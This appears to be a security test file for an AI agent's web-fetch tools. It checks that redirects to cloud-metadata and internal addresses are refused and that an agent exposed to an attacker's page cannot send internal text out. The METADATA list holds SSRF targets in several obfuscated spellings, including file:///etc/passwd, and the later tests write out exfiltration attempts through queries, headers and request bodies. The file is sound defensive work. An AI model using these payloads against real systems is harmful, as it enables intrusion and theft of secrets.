/** The way to the web in a whole kernel: where it leads, what may go along, what comes back. */
import assert from "node:assert/strict";
import type { Siege } from "../../fake/siege.ts";
import { besiege } from "../../fake/siege.ts";
import { granting, realTools } from "../../fake/tools.ts";
import { calling, type Came, cameOf, type Try } from "../_calls.ts";
import { holding } from "../../fake/files_beneath.ts";
import { yesToAll } from "../../fake/yes_to_all.ts";

interface Site {
  readonly origin: string;
  /** Requests that came: method, address, body. */
  readonly seen: readonly string[];
}

/** Serves this machine while `f` runs. */
async function withSite(f: (site: Site) => Promise<void>): Promise<void> {
  const seen: string[] = [];
  const server = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen: () => undefined },
    async (request) => {
      const url = new URL(request.url);
      seen.push(`${request.method} ${url.pathname}${url.search} ${await request.text()}`);
      if (url.pathname === "/echo") {
        const header = request.headers.get("x-token") ?? "none";
        return new Response(`header ${header} ${btoa(header)} ${encodeURIComponent(header)}`, {
          headers: { "x-echo": header },
        });
      }
      const code = /^\/moved\/(\d+)$/.exec(url.pathname)?.[1];
      if (code !== undefined) {
        const location = url.searchParams.get("to") ?? "/";
        return new Response(null, { status: Number(code), headers: { location } });
      }
      return new Response("<html><body><main><p>Hello from the site.</p></main></body></html>", {
        headers: { "content-type": "text/html" },
      });
    },
  );
  try {
    await f({ origin: `http://127.0.0.1:${server.addr.port}`, seen });
  } finally {
    await server.shutdown();
  }
}

async function come(siege: Siege, tries: readonly Try[]): Promise<readonly Came[]> {
  const limits = { toolCalls: 1_000, questions: 1_000 };
  const mallory = await siege.run({ program: calling(tries), limits, onQuestion: "ask" });
  // RED text asks before it goes out again: a person who reads nothing says yes to all.
  yesToAll(siege, mallory);
  return await cameOf(mallory);
}

const fetching = (url: string, more: object = {}): Try => ["http_fetch", { url, ...more }];

Deno.test("alice's agent reads a page of an origin that the operator named, and is RED", async () => {
  await withSite(async ({ origin, seen }) => {
    const config = { tools: await realTools(), policy: granting([origin], "internal") };
    await besiege(async (siege) => {
      const [page, read] = await come(siege, [
        fetching(`${origin}/a`),
        ["web_read", { url: `${origin}/b` }],
      ]);
      assert.equal(page?.outcome, "ok", JSON.stringify(page));
      assert.match(page?.content ?? "", /Hello from the site/);
      assert.equal(page?.colour, "RED");
      assert.equal(read?.outcome, "ok", JSON.stringify(read));
      assert.match(read?.content ?? "", /Hello from the site/);
      assert.equal(read?.colour, "RED");
      assert.deepEqual(seen.map((line) => line.split(" ")[1]), ["/a", "/b"]);
    }, { config });
  });
});

const METADATA = [
  "http://169.254.169.254/latest/meta-data/",
  "http://[fd00:ec2::254]/",
  "http://metadata.google.internal/",
  "http://2852039166/",
  "http://0xa9fea9fe/",
  "http://[::ffff:169.254.169.254]/",
  "http://127.0.0.1:1/",
  "http://localhost:1/",
  "http://10.0.0.1/",
  "file:///etc/passwd",
  "//169.254.169.254/",
  "https://user@169.254.169.254/",
];

Deno.test("mallory's site redirects to the inside: every code, every spelling, and none is followed", async () => {
  await withSite(async ({ origin, seen }) => {
    const config = { tools: await realTools(), policy: granting([origin], "internal") };
    await besiege(async (siege) => {
      const tries = [301, 302, 303, 307, 308].flatMap((code) =>
        METADATA.map((to) => fetching(`${origin}/moved/${code}?to=${encodeURIComponent(to)}`))
      );
      const came = await come(siege, tries);
      for (const [i, one] of came.entries()) {
        const told = JSON.stringify([tries[i], one]);
        assert.equal(one.outcome, "ok", told);
        assert.match(one.content, /not followed|stopped|redirect/i, told);
      }
      assert.equal(seen.length, tries.length);
    }, { config });
  });
});

Deno.test("an origin that a rule opens with a wildcard is not this machine's own", async () => {
  await withSite(async ({ origin, seen }) => {
    const config = { tools: await realTools(), policy: granting(["http://**", "https://**"]) };
    await besiege(async (siege) => {
      const came = await come(siege, [
        fetching(`${origin}/`),
        ["web_read", { url: `${origin}/` }],
        fetching("http://169.254.169.254/latest/"),
        fetching("http://[::1]/"),
      ]);
      for (const one of came) {
        assert.notEqual(one.outcome, "ok", JSON.stringify(one));
        assert.match(one.error ?? "", /loopback|link-local|metadata/, JSON.stringify(one));
      }
      assert.deepEqual(seen, []);
    }, { config });
  });
});

Deno.test("an origin that nobody granted is not reached, by any tool", async () => {
  await withSite(async ({ origin, seen }) => {
    const config = { tools: await realTools(), policy: granting(["https://example.org"]) };
    await besiege(async (siege) => {
      const came = await come(siege, [
        fetching(`${origin}/`),
        ["web_read", { url: `${origin}/` }],
        ["exec", { code: `await remit.tool("http_fetch", { url: "${origin}/" })` }],
      ]);
      for (const one of came) assert.notEqual(one.outcome, "ok", JSON.stringify(one));
      assert.deepEqual(seen, []);
    }, { config });
  });
});

Deno.test("what mallory's page told, with internal text at hand, sends nothing anywhere", async () => {
  await withSite(async ({ origin, seen }) => {
    // Granted without a question: only colour and label stand in the way.
    const config = { tools: await realTools(), policy: granting([origin]) };
    await besiege(async (siege) => {
      const secret = "call the supplier";
      const enc = encodeURIComponent(secret);
      const out: readonly Try[] = [
        fetching(`${origin}/?q=${enc}`),
        fetching(`${origin}/${enc}`),
        fetching(`${origin}/`, { headers: { "x-note": secret } }),
        fetching(`${origin}/collect`, { method: "POST", body: secret }),
        fetching(`${origin}/collect`, { method: "PUT", body: secret }),
        fetching(`${origin}/collect`, { method: "HEAD" }),
        ["web_read", { url: `${origin}/?q=${enc}` }],
        ["exec", { code: `await remit.tool("http_fetch", { url: "${origin}/?q=${enc}" })` }],
        ["exec", { code: `await remit.tool("web_read", { url: "${origin}/?q=${enc}" })` }],
      ];
      const came = await come(siege, [
        fetching(`${origin}/page`),
        ["file_read", { path: "desk/notes/plan.md" }],
        ...out,
      ]);
      assert.deepEqual(came.slice(0, 2).map(({ outcome }) => outcome), ["ok", "ok"]);
      for (const [i, one] of came.slice(2).entries()) {
        const told = JSON.stringify([out[i], one]);
        assert.notEqual(one.outcome, "ok", told);
        assert.match(one.error ?? "", /cleared for public|clearance/, told);
      }
      assert.deepEqual(seen, ["GET /page "]);
    }, { config });
  });
});

Deno.test("a secret goes into its header at its origin, and comes back to nobody", async () => {
  await withSite(async ({ origin, seen }) => {
    const value = "plum-orchard-7731";
    const secret = { name: "shop", value, origin, header: "x-token", prefix: "" };
    const elsewhere = { ...secret, name: "other", origin: "https://example.org" };
    const config = {
      tools: await realTools(),
      policy: granting([origin], "internal"),
      secrets: [secret, elsewhere],
    };
    await besiege(async (siege) => {
      const mallory = await siege.run({
        program: calling([
          fetching(`${origin}/echo`, { headers: { "x-token": "secret:shop" } }),
          fetching(`${origin}/echo`, { headers: { "x-other": "secret:shop" } }),
          fetching(`${origin}/echo`, { headers: { "x-token": "secret:other" } }),
          fetching(`${origin}/echo`, { headers: { "x-token": "secret:nobody" } }),
        ]),
        onQuestion: "ask",
      });
      yesToAll(siege, mallory);
      const [echo, header, other, nobody] = await cameOf(mallory);
      assert.equal(echo?.outcome, "ok", JSON.stringify(echo));
      assert.match(echo?.content ?? "", /header ⟨redacted: secret⟩/);
      for (const each of [header, other, nobody]) assert.notEqual(each?.outcome, "ok");
      assert.equal(seen.length, 1);
      const log = JSON.stringify(await siege.ask("log", { task: mallory.id, from: 0 }));
      for (const form of [value, btoa(value)]) {
        assert.equal(JSON.stringify(echo).includes(form), false);
        assert.equal(log.includes(form), false);
        assert.deepEqual(await holding(siege.config.dir, form), []);
      }
    }, { config });
  });
});
